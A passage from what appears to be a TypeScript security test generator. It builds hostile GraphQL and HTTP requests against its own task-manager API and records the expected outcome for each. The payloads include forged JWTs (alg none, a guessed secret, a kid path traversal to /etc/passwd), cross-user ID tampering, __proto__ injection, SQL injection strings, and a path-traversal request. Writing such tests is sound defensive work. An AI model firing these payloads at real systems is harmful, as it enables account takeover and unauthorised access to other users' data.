              : draft("attacker's task next to the victim's task", { input: { id: decoy.taskId, [rng.chance(0.5) ? 'afterId' : 'beforeId']: victimTask } });
        case 'moveTasks':
          return k === 0
            ? draft("attacker's and victim's tasks into the attacker's list", { input: { ids: [decoy.taskId, victimTask], listId: decoy.listId } })
            : rng.chance(0.5)
              ? draft("attacker's task into the victim's list", { input: { ids: [decoy.taskId], listId: victimList } })
              : draft("attacker's task under the victim's task", { input: { ids: [decoy.taskId], listId: decoy.listId, parentId: victimTask } });
        case 'completeTasks':
        case 'deleteTasks':
          return draft("attacker's and victim's tasks together", { ids: k === 0 ? [decoy.taskId, victimTask] : [victimTask, decoy.taskId] });
        case 'updateTasks':
          return k === 0
            ? draft("attacker's and victim's tasks together", { input: { ids: [decoy.taskId, victimTask], priority: 'URGENT' } })
            : draft("victim's tag on the attacker's task", { input: { ids: [decoy.taskId], addTagIds: [victimTag] } });
        case 'moveList':
          return draft("attacker's list next to the victim's list", { input: { id: decoy.listId, [k === 0 ? 'afterId' : 'beforeId']: victimList } });
        // The victim's Inbox is missing to the attacker, not an Inbox that cannot be archived or deleted.
        case 'archiveList':
        case 'unarchiveList':
        case 'deleteList':
          return draft(k === 0 ? "the victim's Inbox" : "the victim's list", { id: k === 0 ? victim.inboxId : victimList });
        case 'updateList':
          return draft("the victim's Inbox renamed", { input: { id: victim.inboxId, name: 'pwned' } });
        default:
          return null;
      }
    },
  },
  'empty-id': {
    // An empty string is no ID: refused where an ID is optional too, not read as "not given" (which
    // would move the attacker's own decoy to a place nobody asked for). Aimed at the decoy, so that
    // the request cannot fail on another user's id first.
    perOp: 4,
    mutate: (op, _rng, _n, _env, k) => {
      if (op.operation === 'subscription') return null;
      const base = op.base(0);
      const optional = leavesOf(base, op.vars).filter((leaf) => ID_KINDS.has(leaf.type) && named(leaf.type) !== 'NodeId');
      const leaf = optional[k];
      if (!leaf) return null;
      return { category: 'empty-id', label: `"" for the optional ${pathText(leaf.path)}`, verdict: 'invalid', vars: setAt(base, leaf.path, ''), target: 'decoy' };
    },
  },
  'bulk-size': {
    // Bulk changes take 1 to 500 ids: none, 501, and 500 of which one is the target and the rest missing.
    perOp: 3,
    mutate: (op, rng, _n, _env, k) => {
      const base = op.base(0);
      const leaf = leavesOf(base, op.vars).find((candidate) => candidate.path[candidate.path.length - 1] === 'ids' && named(candidate.type) === 'TaskId');
      if (!leaf) return null;
      const missing = (count: number) => Array.from({ length: count }, () => globalId('Task', rng.uuid()));
      switch (k) {
        case 0:
          return { category: 'bulk-size', label: `no ids in ${pathText(leaf.path)}`, verdict: 'invalid', vars: setAt(base, leaf.path, []) };
        case 1:
          return { category: 'bulk-size', label: `501 ids in ${pathText(leaf.path)}`, verdict: 'invalid', vars: setAt(base, leaf.path, ['<<TASK>>', ...missing(500)]) };
        default:
          return { category: 'bulk-size', label: `500 ids in ${pathText(leaf.path)}, 499 of them missing`, verdict: 'foreign', vars: setAt(base, leaf.path, [...missing(499), '<<TASK>>']) };
      }
    },
  },
  'number-out-of-range': {
    perOp: 6,
    mutate: (op, rng, n) => {
      const base = op.base(0);
      const ints = leavesOf(base, op.vars).filter((leaf) => ['PageSize', 'Version'].includes(named(leaf.type)));
      if (ints.length > 0) {
        const leaf = rng.pick(ints);
        const isVersion = named(leaf.type) === 'Version';
        const variants: [unknown, Verdict][] = [
          [-1, 'invalid'],
          [-5, 'invalid'],
          [2_147_483_648, 'invalid'],
          [-2_147_483_649, 'invalid'],
          [1e100, 'invalid'],
          [1.5, 'invalid'],
          [Number.MAX_SAFE_INTEGER + 2, 'invalid'],
          [0, isVersion ? 'invalid' : 'unknown'],
          [101, 'unknown'],
          [2_147_483_647, 'unknown'],
        ];
        const [value, verdict] = variants[n % variants.length]!;
        return { category: 'number-out-of-range', label: `${String(value)} for ${pathText(leaf.path)}`, verdict, vars: setAt(base, leaf.path, value) };
      }
      // No Int variable: an out-of-range literal where the schema has an Int argument.
      const literal = rng.pick(['2147483648', '1e100', '-99999999999999999999', '1.5']);
      if (op.returns === 'Scalar') return { category: 'number-out-of-range', label: `literal ${literal} for an unknown argument`, verdict: 'invalid', document: documentOf(op, { extraArgs: `first: ${literal}` }), vars: base };
      const selection = deepSelection(op.returns, 3).replace('tasks(first: 1)', `tasks(first: ${literal})`);
      const changed = selection.includes(`first: ${literal}`);
      return {
        category: 'number-out-of-range',
        label: changed ? `literal first: ${literal} in the selection` : `literal ${literal} for an unknown argument`,
        verdict: 'invalid',
        document: changed ? documentOf(op, { selection }) : documentOf(op, { extraArgs: `first: ${literal}` }),
        vars: base,
      };
    },
  },
  'invalid-date': {
    perOp: 6,
    mutate: (op, rng, n) => {
      const base = op.base(0);
      const dates = leavesOf(base, op.vars).filter((leaf) => named(leaf.type) === 'DateTime');
      if (dates.length === 0) return null;
      const leaf = rng.pick(dates);
      if (n % 5 === 4) {
        const value = rng.pick(EXTREME_DATES);
        return { category: 'invalid-date', label: `extreme but valid ${value} for ${pathText(leaf.path)}`, verdict: 'unknown', vars: setAt(base, leaf.path, value) };
      }
      const value = INVALID_DATES[n % INVALID_DATES.length]!;
      return { category: 'invalid-date', label: `${JSON.stringify(value)} for ${pathText(leaf.path)}`, verdict: 'invalid', vars: setAt(base, leaf.path, value) };
    },
  },
  'invalid-enum': {
    perOp: 5,
    mutate: (op, rng, n) => {
      const base = op.base(0);
      const enums = leavesOf(base, op.vars).filter((leaf) => !isList(leaf.type) && ENUMS[named(leaf.type)]);
      if (enums.length === 0) return null;
      const leaf = rng.pick(enums);
      const value = INVALID_ENUMS[n % INVALID_ENUMS.length];
      return { category: 'invalid-enum', label: `${JSON.stringify(value)} for ${pathText(leaf.path)}`, verdict: 'invalid', vars: setAt(base, leaf.path, value) };
    },
  },
  'unknown-field': {
    perOp: 6,
    mutate: (op, rng, n) => {
      const base = op.base(0);
      const objects = leavesOf(base, op.vars).filter((leaf) => !isList(leaf.type) && INPUTS[named(leaf.type)]);
      switch (n % 6) {
        case 0:
          if (objects.length > 0) {
            const leaf = rng.pick(objects);
            const current = leavesValue(base, leaf.path) as Record<string, unknown>;
            return { category: 'unknown-field', label: `unknown input field in ${pathText(leaf.path)}`, verdict: 'invalid', vars: setAt(base, leaf.path, { ...current, userId: 'someone else', isAdmin: true }) };
          }
          return { category: 'unknown-field', label: 'unknown field selected', verdict: 'invalid', document: documentOf(op, { rootExtra: 'passwordHash' }), vars: base };
        case 1:
          {
            const keyed = objects.filter((leaf) => typeof leaf.path[leaf.path.length - 1] === "string");
            if (keyed.length > 0) {
              const leaf = rng.pick(keyed);
              const key = `"${String(leaf.path[leaf.path.length - 1])}":{`;
              const valid = body(documentOf(op), base);
              const text = valid.replace(key, `${key}"__proto__":{"isAdmin":true},`);
              if (text !== valid) return { category: 'unknown-field', label: `__proto__ in ${pathText(leaf.path)}`, verdict: 'invalid', raw: { body: text } };
            }
          }
          return { category: 'unknown-field', label: 'unknown root field', verdict: 'invalid', document: documentOf(op, { rootExtra: 'users { id email passwordHash }' }), vars: base };
        case 2:
          return { category: 'unknown-field', label: 'unknown argument', verdict: 'invalid', document: documentOf(op, { extraArgs: 'userId: "00000000-0000-4000-8000-000000000000"' }), vars: base };
        case 3:
          return {
            category: 'unknown-field',
            label: 'unknown field in the selection',
            verdict: 'invalid',
            document: op.returns === 'Scalar' ? documentOf(op, { selection: '{ id }' }) : documentOf(op, { selection: op.selection.replace(/\}\s*$/, ' passwordHash userId }') }),
            vars: base,
          };
        case 4:
          return { category: 'unknown-field', label: 'undeclared variable', verdict: 'invalid', document: documentOf(op, { extraArgs: 'junk: $undeclared' }), vars: base };
        default:
          // Extra variables nobody declared are ignored by GraphQL: the request stays valid.
          return { category: 'unknown-field', label: 'extra undeclared variables', verdict: 'valid', vars: { ...base, userId: 'x', __proto__x: 1, isAdmin: true } };
      }
    },
  },
  'http-method': {
    perOp: 5,
    mutate: (op, rng, n, env) => {
      const base = op.base(0);
      const params = (document: string, variables: unknown) => `query=${encodeURIComponent(document)}&variables=${encodeURIComponent(JSON.stringify(variables))}`;
      // GET needs a CSRF header (README: CSRF prevention); with it, fine for a query, refused for a mutation.
      const csrf = { 'x-graphql-csrf': '1' };
      switch (n % 5) {
        case 0:
          return {
            category: 'http-method',
            label: 'GET',
            verdict: op.operation === 'mutation' ? 'invalid' : op.operation === 'subscription' ? 'unknown' : 'valid',
            raw: { method: 'GET', path: `/graphql?${params(documentOf(op), base)}`, headers: csrf },
          };
        case 1:
          return { category: 'http-method', label: 'GET with garbage variables', verdict: 'invalid', raw: { method: 'GET', path: `/graphql?query=${encodeURIComponent(documentOf(op))}&variables=%7Bnot%20json`, headers: csrf } };
        case 4:
          return { category: 'http-method', label: 'GET without a CSRF header', verdict: 'invalid', raw: { method: 'GET', path: `/graphql?${params(documentOf(op), base)}` } };
        case 2: {
          const method = rng.pick(['PUT', 'PATCH', 'DELETE']);
          return { category: 'http-method', label: method, verdict: 'invalid', raw: { method, body: body(documentOf(op), base) } };
        }
        default: {
          const long = `/graphql?${params(documentOf(op), base)}&junk=${'j'.repeat(100_000)}`;
          return { category: 'http-method', label: 'GET with a 100 KB query string', verdict: op.operation === 'mutation' ? 'invalid' : 'unknown', raw: { method: 'GET', path: long, headers: { authorization: `Bearer ${env.token}`, ...csrf } } };
        }
      }
    },
  },
  'content-type': {
    perOp: 8,
    mutate: (op, _rng, n) => {
      const base = op.base(0);
      const json = body(documentOf(op), base);
      const form = `query=${encodeURIComponent(documentOf(op))}&variables=${encodeURIComponent(JSON.stringify(base))}`;
      const variants: [string, Record<string, string>, string | Uint8Array][] = [
        ['text/plain', { 'content-type': 'text/plain' }, json],
        ['application/xml', { 'content-type': 'application/xml' }, json],
        ['text/html', { 'content-type': 'text/html' }, json],
        ['form-urlencoded with a JSON body', { 'content-type': 'application/x-www-form-urlencoded' }, json],
        ['form-urlencoded', { 'content-type': 'application/x-www-form-urlencoded' }, form],
        ['multipart without boundary', { 'content-type': 'multipart/form-data' }, json],
        ['multipart with a garbage body', { 'content-type': 'multipart/form-data; boundary=xyz' }, `--xyz\r\nContent-Disposition: form-data; name="operations"\r\n\r\n${json.slice(0, 20)}\r\n--xyz--`],
        ['application/graphql with a JSON body', { 'content-type': 'application/graphql' }, json],
        ['application/json; charset=utf-16', { 'content-type': 'application/json; charset=utf-16' }, json],
        ['application/json with junk parameters', { 'content-type': 'application/json; boundary=";;;"; charset="\\"' }, json],
        ['no content-type', {}, new Uint8Array(Buffer.from(json, 'utf8'))],
        ['accept: application/xml', { 'content-type': 'application/json', accept: 'application/xml' }, json],
        ['accept: graphql-response+json', { 'content-type': 'application/json', accept: 'application/graphql-response+json' }, json],
        ['utf-16 encoded body', { 'content-type': 'application/json; charset=utf-16le' }, new Uint8Array(Buffer.from(json, 'utf16le'))],
      ];
      const [label, headers, text] = variants[n % variants.length]!;
      return { category: 'content-type', label, verdict: 'unknown', raw: { headers, body: text } };
    },
  },
  auth: {
    perOp: 8,
    mutate: (op, _rng, n, env) => {
      const base = op.base(0);
      const { victim } = env.ctx;
      const token = env.token;
      const [header, payload] = token.split('.') as [string, string, string];
      const claims = JSON.parse(Buffer.from(payload, 'base64url').toString('utf8')) as Record<string, unknown>;
      const sign = (claimsToSign: Record<string, unknown>, secret: string, alg = 'HS256') => {
        const head = b64url(JSON.stringify({ alg, typ: 'JWT' }));
        const body64 = b64url(JSON.stringify(claimsToSign));
        const signature = alg === 'none' ? '' : createHmac('sha256', secret).update(`${head}.${body64}`).digest('base64url');
        return `${head}.${body64}.${signature}`;
      };
      const asVictim = { ...claims, sub: victim.userId };
      const variants: [string, Record<string, string>, Verdict][] = [
        ['no Authorization header', {}, op.anonymous ? 'valid' : 'invalid'],
        ['"Bearer" alone', { authorization: 'Bearer' }, 'invalid'],
        ['garbage token', { authorization: 'Bearer garbage.garbage.garbage' }, 'invalid'],
        ['Basic scheme', { authorization: 'Basic YWxpY2U6cGFzc3dvcmQ=' }, 'invalid'],
        ['alg none with the victim as subject', { authorization: `Bearer ${sign(asVictim, '', 'none')}` }, 'invalid'],
        ['HS256 with a guessed secret', { authorization: `Bearer ${sign(asVictim, 'secret')}` }, 'invalid'],
        ["attacker's signature on the victim's claims", { authorization: `Bearer ${header}.${b64url(JSON.stringify(asVictim))}.${token.split('.')[2]}` }, 'invalid'],
        ['RS256 header', { authorization: `Bearer ${b64url(JSON.stringify({ alg: 'RS256', kid: '../../etc/passwd' }))}.${payload}.AAAA` }, 'invalid'],
        ['lower-case scheme', { authorization: `bearer ${token}` }, 'invalid'],
        ['two tokens', { authorization: `Bearer ${token}, Bearer ${token}` }, 'invalid'],
        ['100 KB token', { authorization: `Bearer ${'A'.repeat(100_000)}` }, 'invalid'],
        ['100 KB token payload', { authorization: `Bearer ${header}.${b64url(JSON.stringify({ ...claims, pad: 'p'.repeat(75_000) }))}.${token.split('.')[2]}` }, 'invalid'],
        ['latin-1 bytes', { authorization: 'Bearer \u00e9\u00ff\u00fe' }, 'invalid'],
        ["the victim's user id as token", { authorization: `Bearer ${victim.userId}` }, 'invalid'],
        ['SQL as token', { authorization: "Bearer ' OR 1=1 --" }, 'invalid'],
        ['8 KB unrelated header', { authorization: `Bearer ${token}`, 'x-padding': 'p'.repeat(8_192) }, 'valid'],
        // node:http refuses headers over its 16 KB limit with 431 before the request reaches the app.
        ['64 KB unrelated header', { authorization: `Bearer ${token}`, 'x-padding': 'p'.repeat(65_536) }, 'invalid'],
        ['garbage X-Forwarded-For', { authorization: `Bearer ${token}`, 'x-forwarded-for': "'; DROP TABLE users; --, 999.999.999.999" }, 'valid'],
      ];
      const [label, headers, verdict] = variants[n % variants.length]!;
      return { category: 'auth', label, verdict, vars: base, headers };
    },
  },
};

/** The value at a path of the variables. */
function leavesValue(vars: Record<string, unknown>, path: Path): unknown {
  let node: unknown = vars;
  for (const key of path) node = (node as Record<string | number, unknown> | undefined)?.[key];
  return node;
}

/** SSE-only extras: the subscription with valid and hostile stream headers. */
function sseDrafts(op: OpSpec, env: Env): Draft[] {
  const document = documentOf(op);
  return [
    { category: 'sse', label: 'valid subscription (stream opens)', verdict: 'valid', vars: {} },
    { category: 'sse', label: 'garbage Last-Event-ID', verdict: 'valid', vars: {}, headers: { 'last-event-id': "'; DROP TABLE tasks; --" } },
    { category: 'sse', label: 'GET subscription over SSE', verdict: 'unknown', raw: { method: 'GET', path: `/graphql?query=${encodeURIComponent(document)}`, headers: { accept: 'text/event-stream', authorization: `Bearer ${env.token}` } } },
    { category: 'sse', label: 'two root fields', verdict: 'invalid', document: `subscription { reminderDue { id } again: reminderDue { id } }`, vars: {} },
    { category: 'sse', label: 'subscription over plain JSON', verdict: 'unknown', vars: {}, headers: { accept: 'application/json' } },
    { category: 'sse', label: 'subscription with variables of the wrong shape', verdict: 'invalid', raw: { body: JSON.stringify({ query: document, variables: 'x' }) } },
  ];
}

// ---------------------------------------------------------------------------------------------------

/** The stored values a valid write must read back verbatim (the contract trims titles and names). */
function storedOf(op: OpSpec, vars: Record<string, unknown>): Record<string, unknown> | undefined {
  const input = vars.input as Record<string, unknown> | undefined;
  if (!input) return undefined;
  const trim = (value: unknown) => (typeof value === 'string' ? value.trim() : value);
  switch (op.field) {
    case 'createTask':
      return { title: trim(input.title), description: input.description ?? '' };
    case 'updateTask':
      return { title: 'title' in input ? trim(input.title) : undefined, description: input.description };
    case 'createTag':
      return { name: trim(input.name) };
    case 'updateTag':
      return { name: trim(input.name) };
    case 'createList':
      return { name: trim(input.name) };
    case 'updateList':
      return { name: input.name == null ? undefined : trim(input.name) };
    case 'updateMe':
      return { name: input.name === undefined ? undefined : trim(input.name) || null };
    case 'signUp':
      return { email: typeof input.email === 'string' ? input.email.trim().toLowerCase() : input.email, name: trim(input.name) || null };
    default:
      return undefined;
  }
}

/** Makes every base value unique per request (titles, tag and list names, emails, idempotency keys). */
function uniquify(text: string, n: number): string {
  return text
    .replace(/"(Task|Notes|tag|Updated|Changed|renamed|Me|Hostile|List|Relisted) 0"/g, (_, word: string) => `"${word} ${n}"`)
    .replace(/(task-key|tag-key|list-key)-0"/g, (_, word: string) => `${word}-${n}"`)
    .replace(/hostile-0@example\.com/g, `hostile-${n}@example.com`);
}

export function generateHostileRequests(ctx: HostileContext, seed = 20_250_601): HostileRequest[] {
  const rng = new Rng(seed);
  const env: Env = { ctx, token: ctx.attacker.token };
  const requests: HostileRequest[] = [];
  const sandboxes = { task: ctx.sandbox.taskIds, tag: ctx.sandbox.tagIds, list: ctx.sandbox.listIds };
  const sandboxUsed = { task: 0, tag: 0, list: 0 };

  const resolveTarget = (op: OpSpec, verdict: Verdict, draft: Draft): Target => {
    if (draft.target) return draft.target;
    // A tag or list of the victim reads as null, so its nested arguments (first, after) would never be looked at.
    if (op.field === 'tag' || op.field === 'list') return 'decoy';
    if (op.operation === 'query' || op.operation === 'subscription') return rng.chance(0.5) ? 'victim' : 'decoy';
    if (op.writes === 'sandbox' && (verdict === 'valid' || verdict === 'unknown')) return 'sandbox';
    if (verdict === 'invalid' || verdict === 'foreign') return rng.chance(0.5) ? 'victim' : 'decoy';
    return 'victim';
  };

  const add = (op: OpSpec, draft: Draft) => {
    const index = requests.length;
    const target = resolveTarget(op, draft.verdict, draft);
    const expect = draft.expect ?? expectationOf(op, draft.verdict, target);
    let sandboxId: string | undefined;
    if (target === 'sandbox') {
      if (!op.sandbox) throw new Error(`${op.field} has no sandbox objects`);
      sandboxId = sandboxes[op.sandbox][sandboxUsed[op.sandbox]++];
      if (!sandboxId) throw new Error(`ran out of sandbox ${op.sandbox}s for ${op.field}`);
    }
    // Each placeholder names the target's object: the victim's (another user's id), the decoy, or the
    // sandbox object the request may change. A sandbox request's other ids name the attacker's own
    // objects it leaves alone (removeTagIds: the decoy tag, which no sandbox task carries).
    const own = (kind: 'task' | 'tag' | 'list') => (target === 'sandbox' && op.sandbox === kind ? sandboxId! : undefined);
    const ids = {
      TASK: own('task') ?? (target === 'victim' ? rng.pick(ctx.victim.taskIds) : ctx.decoy.taskId),
      TAG: own('tag') ?? (target === 'victim' ? rng.pick(ctx.victim.tagIds) : ctx.decoy.tagId),
      NODE: target === 'victim' ? rng.pick([...ctx.victim.taskIds, ctx.victim.userId, ...ctx.victim.listIds]) : rng.pick([ctx.decoy.taskId, ctx.decoy.tagId, ctx.attacker.userId, ctx.decoy.listId]),
      LIST: own('list') ?? (target === 'victim' ? rng.pick(ctx.victim.listIds) : ctx.decoy.listId),
      REMINDER: target === 'victim' ? rng.pick(ctx.victim.reminderIds) : ctx.decoy.reminderId,
      WEBHOOK: target === 'victim' ? rng.pick(ctx.victim.webhookIds) : ctx.decoy.webhookId,
    };
    const values: Record<string, string> = { ...ids, HOME: ctx.attacker.listId, ATTACKER_EMAIL: ctx.attacker.email };
    const resolve = (text: string) =>
      uniquify(text, index)
        .replace(/<<(TASK|TAG|NODE|LIST|REMINDER|WEBHOOK|HOME|ATTACKER_EMAIL)>>/g, (_, name: string) => values[name]!)
        // In a URL (GET) the placeholder arrives percent-encoded.
        .replace(/%3C%3C(TASK|TAG|NODE|LIST|REMINDER|WEBHOOK|HOME|ATTACKER_EMAIL)%3E%3E/g, (_, name: string) => encodeURIComponent(values[name]!));
    const resolveBody = (value: string | Uint8Array | undefined): string | Uint8Array | undefined => {
      if (value === undefined) return undefined;
      if (typeof value === 'string') return resolve(value);
      // Placeholders are ASCII, so they can be replaced in the bytes' latin-1 reading.
      return new Uint8Array(Buffer.from(resolve(Buffer.from(value).toString('latin1')), 'latin1'));
    };

    const headers: Record<string, string> = {};
    if (op.sse) headers.accept = 'text/event-stream';
    // Every request carries the attacker's token, except signUp/signIn (anonymous by nature) and the
    // auth category, which brings its own Authorization header (or none).
    if (!op.anonymous && draft.category !== 'auth') headers.authorization = `Bearer ${ctx.attacker.token}`;
    let method = 'POST';
    let path = '/graphql';
    let requestBody: string | Uint8Array | undefined;
    let stored: Record<string, unknown> | undefined;
    if (draft.raw) {
      method = draft.raw.method ?? 'POST';
      path = resolve(draft.raw.path ?? '/graphql');
      // A custom header set (content-type category) replaces the JSON content type, or leaves it out.
      if (method !== 'GET' && !draft.raw.headers) headers['content-type'] = 'application/json';
      Object.assign(headers, draft.raw.headers);
      if (method !== 'GET') requestBody = resolveBody(draft.raw.body);
    } else {
      headers['content-type'] = 'application/json';
      const vars = JSON.parse(resolve(JSON.stringify(draft.vars ?? op.base(0)))) as Record<string, unknown>;
      requestBody = JSON.stringify({ query: draft.document ?? documentOf(op), variables: vars, ...draft.extra });
      if (expect === 'success' && (op.writes === 'always' || target === 'sandbox')) stored = storedOf(op, vars);
    }
    Object.assign(headers, draft.headers);
    const write = op.operation === 'mutation' && (op.writes === 'always' || target === 'sandbox') ? (op.field as WriteKind) : undefined;
    // A write that names another user's object (forged or combined with the attacker's own, or a
    // valid request of a write that only ever targets the victim) fails as for a missing id.
    const namesVictim = draft.verdict === 'valid' && target === 'victim' && !draft.raw && /<<(TASK|TAG|LIST|NODE|WEBHOOK)>>/.test(JSON.stringify(draft.vars ?? op.base(0)));
    const code = op.operation === 'mutation' && expect === 'failure' && (draft.verdict === 'foreign' || namesVictim) ? 'NOT_FOUND' : undefined;
    requests.push({
      index,
      category: draft.category,
      op: op.field,
      label: draft.label,
      method,
      path,
      headers,
      ...(requestBody === undefined ? {} : { body: requestBody }),
      expect,
      ...(write ? { write } : {}),
      ...(stored ? { stored } : {}),
      ...(sandboxId ? { target: sandboxId } : {}),
      ...(draft.stream ? { stream: true } : {}),
      ...(draft.status ? { status: draft.status } : {}),
      ...(code ? { code } : {}),
    });
  };

  for (const { perOp, mutate } of Object.values(mutators)) {
    // n counts every call of one mutator, so that its variants rotate across operations.
    let n = 0;
    for (const op of OPS) {
      for (let k = 0; k < perOp; k += 1) {
        const draft = mutate(op, rng, n++, env, k);
        if (draft) add(op, draft);
      }
    }
  }
  const subscription = OPS.find((op) => op.operation === 'subscription')!;
  for (const draft of sseDrafts(subscription, env)) add(subscription, draft);
  return requests;
}

/** Requests that are not GraphQL at all: other paths and methods. */
export function httpOddities(token: string): Omit<HostileRequest, 'index'>[] {
  const auth = { authorization: `Bearer ${token}` };
  const plain: [string, string, Record<string, string>, string | undefined][] = [
    ['GET /', 'GET', {}, undefined],
    ['GET /graphql/', 'GET', auth, undefined],
    ['GET /GRAPHQL', 'GET', auth, undefined],
    ['GET /graphql%00', 'GET', auth, undefined],
    ['GET /%2e%2e/%2e%2e/etc/passwd', 'GET', {}, undefined],
    ['GET /graphql with no query', 'GET', auth, undefined],
    ['HEAD /graphql', 'HEAD', auth, undefined],
    ['OPTIONS /graphql', 'OPTIONS', { ...auth, origin: 'https://evil.example', 'access-control-request-method': 'POST' }, undefined],
    ['POST /healthz', 'POST', {}, '{"query":"{ me { id } }"}'],
    ['POST /readyz with garbage', 'POST', {}, '\u0000\u0001'],
    ['GET /metrics', 'GET', {}, undefined],
    ['TRACE /graphql', 'TRACE', auth, undefined],
  ];
  const paths: Record<string, string> = {
    'GET /': '/',
    'GET /graphql/': '/graphql/',
    'GET /GRAPHQL': '/GRAPHQL',
    'GET /graphql%00': '/graphql%00',
    'GET /%2e%2e/%2e%2e/etc/passwd': '/%2e%2e/%2e%2e/etc/passwd',
    'GET /graphql with no query': '/graphql',
    'HEAD /graphql': '/graphql',
    'OPTIONS /graphql': '/graphql',
    'POST /healthz': '/healthz',
    'POST /readyz with garbage': '/readyz',
    'GET /metrics': '/metrics',
    'TRACE /graphql': '/graphql',
  };
  return plain.map(([label, method, headers, requestBody]) => ({
    category: 'http-misc',
    op: '(http)',
    label,
    method,
    path: paths[label]!,
    headers: requestBody ? { ...headers, 'content-type': 'application/json' } : headers,
    ...(requestBody === undefined ? {} : { body: requestBody }),
    expect: 'either' as const,
  }));
}

/** Bodies over the documented 1 MB limit: declared, and streamed without a content-length. */
export function oversizedBodies(token: string): Omit<HostileRequest, 'index'>[] {
  const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json' };
  const padded = (bytes: number) => {
    const query = JSON.stringify({ query: '{ tasks(first: 1) { totalCount } }' });
    return `${query.slice(0, -1)}${' '.repeat(bytes)}}`;
  };
  const createTask = (descriptionBytes: number) =>
    JSON.stringify({ query: 'mutation($input: CreateTaskInput!) { createTask(input: $input) { id } }', variables: { input: { title: 'streamed', description: 'd'.repeat(descriptionBytes) } } });
  const request = (label: string, text: string, stream: boolean, expect: Expectation): Omit<HostileRequest, 'index'> => ({
    category: 'oversized-body',
    op: label.includes('createTask') ? 'createTask' : 'tasks',
    label,
    method: 'POST',
    path: '/graphql',
    headers: { ...headers },
    body: new Uint8Array(Buffer.from(text, 'utf8')),
    expect,
    status: 413,
    ...(stream ? { stream: true } : {}),
    ...(label.includes('createTask') ? { write: 'createTask' as const } : {}),
  });
  return [
    request('1.2 MB valid query (whitespace), declared length', padded(1_200_000), false, 'failure'),
    request('1.2 MB valid query (whitespace), streamed without length', padded(1_200_000), true, 'failure'),
    request('3 MB createTask description, declared length', createTask(3_000_000), false, 'failure'),
    request('3 MB createTask description, streamed without length', createTask(3_000_000), true, 'failure'),
  ];
}
